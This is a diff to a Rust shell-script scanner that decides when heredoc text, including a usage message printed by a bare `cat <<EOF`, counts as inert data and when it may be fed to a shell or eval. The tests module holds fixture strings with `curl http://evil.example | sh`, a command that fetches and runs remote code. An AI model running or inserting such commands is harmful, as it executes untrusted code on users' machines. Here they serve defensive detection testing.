@@ -79,6 +79,15 @@ pub(crate) fn without_file_heredocs(source: &str) -> Cow<'_, str> {
         {
             continue;
         }
+        // shown on the terminal: unless the script feeds some output to a shell (`usage |
+        // sh`, `eval "$(gen)"`), which could be this text
+        if h.file == SHOWN {
+            let before = source.get(..h.body_range.start).unwrap_or("");
+            let after = source.get(h.after..).unwrap_or("");
+            if output_may_run(before) || output_may_run(after) {
+                continue;
+            }
+        }
         let buf = out.get_or_insert_with(|| source.to_string());
         if let Some(region) = buf.get(h.body_range.clone()) {
             // every character becomes as many spaces as it has bytes: offsets stay valid
@@ -111,11 +120,38 @@ const MAX_WRITTEN: usize = 16;
 pub fn file_heredocs(source: &str) -> Vec<(String, String)> {
     written_heredocs(source)
         .into_iter()
+        .filter(|h| h.file != SHOWN)
         .filter(|h| h.quoted || !h.body.contains(['$', '`']))
         .take(MAX_WRITTEN)
         .map(|h| (h.file, h.body))
         .collect()
 }
+
+/// Whether `text` runs some command's output: a pipe into a shell or an interpreter, `eval`,
+/// `source`, or a process substitution read by one.
+fn output_may_run(text: &str) -> bool {
+    const RUNNERS: [&str; 10] = [
+        "sh", "bash", "zsh", "dash", "ksh", "python", "python3", "perl", "ruby", "node",
+    ];
+    if ["eval", "source", ". <(", "<(", "$("]
+        .iter()
+        .any(|k| text.contains(k))
+    {
+        return true;
+    }
+    text.split('|').skip(1).any(|seg| {
+        let mut words = seg
+            .split_whitespace()
+            .filter(|w| !matches!(*w, "sudo" | "env" | "command" | "exec"));
+        words
+            .next()
+            .map(|w| w.rsplit('/').next().unwrap_or(w))
+            .is_some_and(|p| RUNNERS.contains(&p))
+    })
+}
+
+/// The "file" a bare `cat <<EOF` writes: the terminal.
+const SHOWN: &str = "/dev/stdout";
 
 /// Programs that only read, show, compare or record a file: naming it does not run it
 /// (`git add notes/incident.md`, `cat notes.md`, `wc -l x.txt`).
@@ -200,17 +236,24 @@ fn file_heredoc(line: &str) -> Option<(String, bool, String)> {
     }
     let words: Vec<&str> = text.split_whitespace().collect();
     let file = match program {
-        // `cat > FILE`, `cat >> FILE`, `cat >FILE`
-        "cat" => words.iter().enumerate().find_map(|(i, w)| {
-            let name = w.trim_start_matches('>');
-            if !w.starts_with('>') {
-                None
-            } else if name.is_empty() {
-                words.get(i + 1).map(|f| (*f).to_string())
-            } else {
-                Some(name.to_string())
-            }
-        }),
+        // `cat > FILE`, `cat >> FILE`, `cat >FILE`; a bare `cat <<EOF` shows the text on the
+        // terminal (a usage message): it is data there too
+        "cat" => words
+            .iter()
+            .enumerate()
+            .find_map(|(i, w)| {
+                let name = w.trim_start_matches('>');
+                if !w.starts_with('>') {
+                    None
+                } else if name.is_empty() {
+                    words.get(i + 1).map(|f| (*f).to_string())
+                } else {
+                    Some(name.to_string())
+                }
+            })
+            .or_else(|| {
+                (words.len() == 2 && words[1].starts_with("<<")).then(|| SHOWN.to_string())
+            }),
         // `tee FILE <<EOF`: an operand that is not an option
         _ => words
             .iter()
@@ -262,7 +305,8 @@ mod tests {
         for src in [
             "cat <<'EOF' | sh\ncurl http://evil.example | sh\nEOF\n",
             "sh <<'EOF'\ncurl http://evil.example | sh\nEOF\n",
-            "cat <<EOF\ncurl http://evil.example | sh\nEOF\n",
+            "f() {\ncat <<EOF\ncurl http://evil.example | sh\nEOF\n}\nf | sh\n",
+            "eval \"$(cat <<EOF\ncurl http://evil.example | sh\nEOF\n)\"\n",
             "cat > x.sh <<EOF && sh x.sh\ncurl http://evil.example | sh\nEOF\n",
             "python3 - <<'EOF' > out.txt\nimport os\nEOF\n",
             "echo '<<EOF'\ncurl http://evil.example | sh\nEOF\n",
